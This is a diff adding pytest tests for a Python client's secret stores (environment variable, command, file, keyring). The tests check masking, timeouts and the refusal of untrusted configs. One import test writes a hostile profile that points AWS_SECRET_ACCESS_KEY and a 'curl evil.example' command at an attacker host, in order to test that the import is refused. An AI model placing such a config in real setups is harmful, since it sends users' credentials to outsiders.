@@ -1,0 +1,418 @@
+"""Where a profile's secret lives: keyring, env, command, file (issue 20).
+
+In-process tests of the stores (the keyring store is covered by the keyring
+tests); the headless command-line runs are in test_headless.py, the keyring
+password prompt through a pseudo-terminal in test_keyring_prompt.py.
+"""
+
+from __future__ import annotations
+
+import json
+import logging
+import os
+import stat
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import kaskada as kda
+from kaskada import _reset, table
+from kaskada._errors import (
+    ConfigError,
+    IncompleteCredentialsError,
+    PlainTextKeyringError,
+    UntrustedConfigError,
+)
+from kaskada._secret import Secret
+from kaskada.config import file as _config
+from kaskada.config import lifecycle as _profiles
+from kaskada.credentials import profile_stores as _secret_stores
+from tests.token_fakes import ManualClock
+
+CANARY = "canary-9f3b2a-secret-never-shown"
+
+
+def _connection(server: Any) -> dict[str, Any]:
+    return {"endpoint": server.endpoint, "exchange_endpoint": server.token_url, "is_secure": False}
+
+
+def _python(code: str) -> list[str]:
+    return [sys.executable, "-c", code]
+
+
+def _everything_under(*folders: Path) -> str:
+    """Every file's bytes under ``folders`` as text (to look for a canary)."""
+    seen = []
+    for folder in folders:
+        if folder.exists():
+            for path in sorted(folder.rglob("*")):
+                if path.is_file():
+                    seen.append(f"{path}\n{path.read_bytes().decode('utf-8', 'replace')}")
+    return "\n".join(seen)
+
+
+# --- the profile's settings --------------------------------------------------------
+
+
+def test_store_settings_are_checked_with_the_file_and_key_named() -> None:
+    with pytest.raises(ConfigError, match="secret_env must name an environment variable"):
+        _profiles.add_profile("a", {"client_id": "x", "secret_env": "NOT A VAR"}, None)
+    with pytest.raises(ConfigError, match="secret_command must be a list"):
+        _profiles.add_profile("a", {"client_id": "x", "secret_command": "op read x"}, None)
+    with pytest.raises(ConfigError, match="both set"):
+        _profiles.add_profile(
+            "a", {"client_id": "x", "secret_env": "V", "secret_command": ["true"]}, None
+        )
+    with pytest.raises(ConfigError, match="secret_store must be one of"):
+        _profiles.add_profile("a", {"client_id": "x", "secret_store": "vault"}, None)
+    assert not _config.config_path().exists()
+
+
+def test_a_secret_given_to_an_env_profile_is_refused_not_stored_anywhere() -> None:
+    with pytest.raises(ConfigError, match="would never be used"):
+        _profiles.add_profile("a", {"client_id": "x", "secret_env": "A_SECRET"}, Secret(CANARY))
+    assert not _config.config_path().exists()
+
+
+# --- env -----------------------------------------------------------------------------
+
+
+def test_two_accounts_in_one_process_each_from_its_own_variable(
+    local_server: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Two profiles, two variables, no keyring: each session runs as its own account."""
+    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
+    names = {}
+    for profile in ("alpha", "beta"):
+        client_id, secret = local_server.add_client(f"{profile}-account-{os.getpid()}")
+        variable = f"{profile.upper()}_KASKADA_SECRET"
+        monkeypatch.setenv(variable, secret)
+        _profiles.add_profile(
+            profile,
+            {"client_id": client_id, "secret_env": variable, **_connection(local_server)},
+            None,
+        )
+        names[profile] = f"only_{profile}_{os.getpid()}"
+    with kda.session(profile="alpha"):
+        table.create_table(names["alpha"], "t", "k")
+    with kda.session(profile="beta"):
+        assert names["alpha"] not in table.list_tables()  # another account
+        table.create_table(names["beta"], "t", "k")
+    with kda.session(profile="alpha"):
+        assert names["alpha"] in table.list_tables()
+        assert names["beta"] not in table.list_tables()
+        source = kda.explain().source("client_secret")
+    assert "environment variable ALPHA_KASKADA_SECRET" in source
+
+
+def test_an_unset_variable_says_which_and_how_to_set_it() -> None:
+    _profiles.add_profile("a", {"client_id": "x", "secret_env": "A_KASKADA_SECRET"}, None)
+    with pytest.raises(IncompleteCredentialsError) as caught:
+        kda.init(profile="a")
+    assert "$A_KASKADA_SECRET, which is not set" in str(caught.value)
+    assert "export A_KASKADA_SECRET=" in str(caught.value)
+
+
+# --- command -----------------------------------------------------------------------
+
+
+def test_a_command_profile_signs_in_with_what_the_command_prints(
+    local_server: Any, tmp_path: Path
+) -> None:
+    client_id, secret = local_server.add_client(f"cmd-{os.getpid()}")
+    holder = tmp_path / "holder"
+    holder.write_text(secret + "\n")
+    holder.chmod(0o600)
+    _profiles.add_profile(
+        "c",
+        {
+            "client_id": client_id,
+            "secret_command": _python(f"print(open({str(holder)!r}).read())"),
+            **_connection(local_server),
+        },
+        None,
+    )
+    with kda.session(profile="c"):
+        table.list_tables()
+        assert "command" in kda.explain().source("client_secret")
+
+
+def test_a_command_that_hangs_is_stopped_at_its_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("KASKADA_SECRET_COMMAND_TIMEOUT", "0.5")
+    _profiles.add_profile(
+        "c", {"client_id": "x", "secret_command": _python("import time; time.sleep(600)")}, None
+    )
+    with pytest.raises(IncompleteCredentialsError, match=r"did not finish within 0\.5 s"):
+        kda.init(profile="c")
+
+
+def test_a_failing_command_shows_its_stderr_never_its_stdout(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("CANARY_VALUE", CANARY)  # the command prints it; its text holds none
+    code = (
+        "import os, sys; print(os.environ['CANARY_VALUE']); "
+        "sys.stderr.write('vault: permission denied'); exit(3)"
+    )
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
+    with pytest.raises(IncompleteCredentialsError) as caught:
+        kda.init(profile="c")
+    message = str(caught.value)
+    assert "exit status 3" in message and "vault: permission denied" in message
+    assert CANARY not in message
+
+
+def test_a_command_that_echoes_the_secret_on_stderr_has_it_masked(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("CANARY_VALUE", CANARY)
+    code = (
+        "import os, sys; value = os.environ['CANARY_VALUE']; print(value); "
+        "sys.stderr.write('got ' + value); exit(1)"
+    )
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
+    with pytest.raises(IncompleteCredentialsError) as caught:
+        kda.init(profile="c")
+    assert CANARY not in str(caught.value) and "got ********" in str(caught.value)
+
+
+def test_a_command_that_prints_nothing_is_an_error_saying_so() -> None:
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python("pass")}, None)
+    with pytest.raises(IncompleteCredentialsError, match="printed nothing"):
+        kda.init(profile="c")
+
+
+def test_a_token_json_is_used_until_its_expiry_then_the_command_runs_again(
+    tmp_path: Path,
+) -> None:
+    """credential_process style: the printed token is the bearer token; once it expires,
+    the next call runs the command again (counted by the lines it appends)."""
+    from kaskada import _clock
+
+    runs = tmp_path / "runs"
+    code = (
+        "import json, time\n"
+        f"with open({str(runs)!r}, 'a') as f: f.write('x\\n')\n"
+        f"n = len(open({str(runs)!r}).read().split())\n"
+        "print(json.dumps({'Version': 1, 'AccessToken': 'tok-%d' % n, 'expires_in': 300}))"
+    )
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
+    clock = ManualClock()
+    with _clock.use(clock):
+        settings = kda.session(profile="c").settings
+        token = settings.token.value
+        assert token.reveal() == "tok-1" and token.reveal() == "tok-1"
+        clock.advance(200)
+        assert token.reveal() == "tok-1"  # still valid: not run again
+        clock.advance(200)
+        assert token.reveal() == "tok-2"  # expired: run again
+    assert runs.read_text().split() == ["x", "x"]
+    assert "command" in settings.token.source and repr(token) == "Secret('********')"
+
+
+def test_a_token_json_without_an_expiry_is_refused() -> None:
+    code = "print('{\"AccessToken\": \"t\"}')"
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
+    with pytest.raises(IncompleteCredentialsError, match="without a usable expiry"):
+        kda.init(profile="c")
+
+
+def test_an_untrusted_config_never_runs_the_command_nor_reads_the_variable(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if sys.platform == "win32":
+        pytest.skip("POSIX modes")
+    marker = tmp_path / "ran"
+    code = f"open({str(marker)!r}, 'w').write('ran'); print('s')"
+    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
+    _profiles.add_profile("e", {"client_id": "x", "secret_env": "E_KASKADA_SECRET"}, None)
+    monkeypatch.setenv("E_KASKADA_SECRET", CANARY)
+    path = _config.config_path()
+    path.chmod(0o666)  # others can write it
+    _reset.reset_all()
+    with pytest.raises(UntrustedConfigError, match="writable by other users"):
+        kda.init(profile="c")
+    assert not marker.exists()
+    with pytest.raises(UntrustedConfigError) as caught:
+        kda.session(profile="e").settings.client_secret.value.reveal()
+    assert CANARY not in str(caught.value)
+
+
+def test_import_shows_secret_sources_and_needs_the_flag(tmp_path: Path) -> None:
+    incoming = tmp_path / "team.toml"
+    incoming.write_text(
+        '[profiles.shared]\nclient_id = "x"\nsecret_env = "AWS_SECRET_ACCESS_KEY"\n'
+        "exchange_endpoint = \"https://evil.example/token\"\nendpoint = \"evil.example:443\"\n"
+        '[profiles.tool]\nclient_id = "y"\nsecret_command = ["curl", "evil.example"]\n'
+    )
+    with pytest.raises(ConfigError) as caught:
+        _profiles.import_profiles(incoming)
+    message = str(caught.value)
+    assert "$AWS_SECRET_ACCESS_KEY" in message and "`curl evil.example`" in message
+    assert "--accept-secret-sources" in message
+    assert not _config.config_path().exists()
+    notes: list[str] = []
+    assert _profiles.import_profiles(incoming, accept_secret_sources=True, notes=notes) == [
+        "shared",
+        "tool",
+    ]
+    assert any("AWS_SECRET_ACCESS_KEY" in line for line in notes)
+
+
+# --- file ----------------------------------------------------------------------------
+
+
+def test_an_opted_in_file_is_0600_bound_and_named_as_plain_text(local_server: Any) -> None:
+    client_id, secret = local_server.add_client(f"file-{os.getpid()}")
+    fields = {"client_id": client_id, "secret_store": "file", **_connection(local_server)}
+    _profiles.add_profile("f", fields, Secret(secret))
+    store = _secret_stores.store_for("f")
+    assert "plain-text file" in store.describe()
+    path = _secret_stores.FileStore("f").path()
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
+    assert json.loads(path.read_text())["binding"]["client_id"] == client_id
+    with kda.session(profile="f"):
+        table.list_tables()
+        assert "plain-text file" in kda.explain().source("client_secret")
+    # Bound like a keyring entry: an edited endpoint sends nothing.
+    document = _config.config_path().read_text()
+    moved = document.replace(local_server.token_url, "http://127.0.0.9:1/t")
+    _config.config_path().write_text(moved)
+    _reset.reset_all()
+    with pytest.raises(Exception, match="stored for other settings"):
+        kda.session(profile="f").settings.client_secret.value.reveal()
+
+
+def test_file_secret_follows_rename_and_goes_with_remove() -> None:
+    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
+    _profiles.rename_profile("f", "g")
+    assert not _secret_stores.FileStore("f").path().exists()
+    entry = _secret_stores.FileStore("g").read()
+    assert entry is not None and entry.secret.reveal() == CANARY
+    assert _profiles.remove_profile("g").secret_deleted
+    assert not _secret_stores.FileStore("g").path().exists()
+
+
+def test_a_file_owned_or_writable_by_others_is_refused() -> None:
+    if sys.platform == "win32":
+        pytest.skip("POSIX modes")
+    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
+    path = _secret_stores.FileStore("f").path()
+    path.chmod(0o666)
+    with pytest.raises(UntrustedConfigError, match="writable by other users") as caught:
+        _secret_stores.FileStore("f").read()
+    assert CANARY not in str(caught.value)
+
+
+# --- plain text is never silent ----------------------------------------------------
+
+
+def test_a_plain_text_keyring_is_refused_naming_backend_and_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import keyring
+    from keyrings.alt.file import PlaintextKeyring  # type: ignore[import-untyped]
+
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
+    backend = PlaintextKeyring()
+    previous = keyring.get_keyring()
+    keyring.set_keyring(backend)
+    try:
+        with pytest.raises(PlainTextKeyringError) as caught:
+            _profiles.add_profile("p", {"client_id": "x"}, Secret(CANARY))
+    finally:
+        keyring.set_keyring(previous)
+    message = str(caught.value)
+    assert "keyrings.alt.file.PlaintextKeyring" in message and backend.file_path in message
+    assert "--insecure-storage" in message and CANARY not in message
+    assert not Path(backend.file_path).exists() or CANARY not in Path(backend.file_path).read_text()
+
+
+# --- the canary, for every store -------------------------------------------------------
+
+
+@pytest.mark.parametrize("kind", ["env", "command", "file"])
+def test_the_secret_reaches_no_log_exception_cache_or_config(
+    kind: str,
+    local_server: Any,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """A real sign-in and a refused one, DEBUG logging on: the secret appears in no
+    log record, no exception, no file under the config or cache folder but its own."""
+    client_id, secret = local_server.add_client(f"canary-{kind}-{os.getpid()}")
+    holder = tmp_path / "outside" / "holder"
+    holder.parent.mkdir()
+    holder.write_text(secret)
+    fields: dict[str, Any] = {"client_id": client_id, **_connection(local_server)}
+    given: Secret | None = None
+    if kind == "env":
+        monkeypatch.setenv("CANARY_KASKADA_SECRET", secret)
+        fields["secret_env"] = "CANARY_KASKADA_SECRET"
+    elif kind == "command":
+        fields["secret_command"] = ["cat", str(holder)]
+    else:
+        fields["secret_store"] = "file"
+        given = Secret(secret)
+    caplog.set_level(logging.DEBUG)
+    _profiles.add_profile("canary", fields, given)
+    with kda.session(profile="canary"):
+        table.list_tables()
+    local_server.revoke_client(client_id)
+    _reset.reset_all()
+    monkeypatch.setenv("KASKADA_TOKEN_CACHE", "0")
+    with pytest.raises(Exception) as caught, kda.session(profile="canary"):
+        table.list_tables()  # any refusal: its text is checked
+    assert secret not in str(caught.value) and secret not in repr(caught.value)
+    assert secret not in caplog.text
+    config_dir = Path(os.environ["KASKADA_CONFIG_DIR"])
+    cache_dir = Path(os.environ["KASKADA_CACHE_DIR"])
+    own = _secret_stores.FileStore("canary").path()
+    found = _everything_under(config_dir, cache_dir).replace(
+        own.read_text() if own.exists() else "\0", ""
+    )
+    assert secret not in found
+    assert (kind == "file") == own.exists()
+
+
+def test_hints_never_suggest_the_keyring_already_in_use(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import keyring
+    from keyrings.alt.file import EncryptedKeyring  # type: ignore[import-untyped]
+
+    from kaskada.credentials import keyring as _keyring
+
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
+    previous = keyring.get_keyring()
+    keyring.set_keyring(EncryptedKeyring())
+    try:
+        hint = _keyring.ways_out("dev")
+    finally:
+        keyring.set_keyring(previous)
+    assert "keyrings.alt" not in hint and "PYTHON_KEYRING_BACKEND" not in hint
+    assert "--insecure-storage" in hint and "--secret-env" in hint and "--secret-command" in hint
+
+
+def test_the_keyring_mark_is_written_with_a_secret_and_never_exported(
+    memory_keyring: dict[tuple[str, str], str], tmp_path: Path
+) -> None:
+    """secret_store = "keyring" records that kaskada stored a secret there (so a removal
+    without a keyring knows to refuse); it tells of this machine, so export drops it."""
+    _profiles.add_profile("kept", {"client_id": "x"}, Secret(CANARY))
+    _profiles.add_profile("bare", {"client_id": "y"}, None)
+    assert _config.get_profile("kept").secret_store == "keyring"
+    assert _config.get_profile("bare").secret_store is None
+    _profiles.add_profile("kept", {"client_id": "x", "timeout": 9}, None, force=True)
+    assert _config.get_profile("kept").secret_store == "keyring"  # its secret stayed
+    exported = _profiles.export_profiles()
+    assert "secret_store" not in exported
+    incoming = tmp_path / "in.toml"
+    incoming.write_text(exported)
+    _profiles.import_profiles(incoming, force=True)
+    assert _config.get_profile("kept").secret_store == "keyring"  # still its secret
+    assert _config.get_profile("bare").secret_store is None
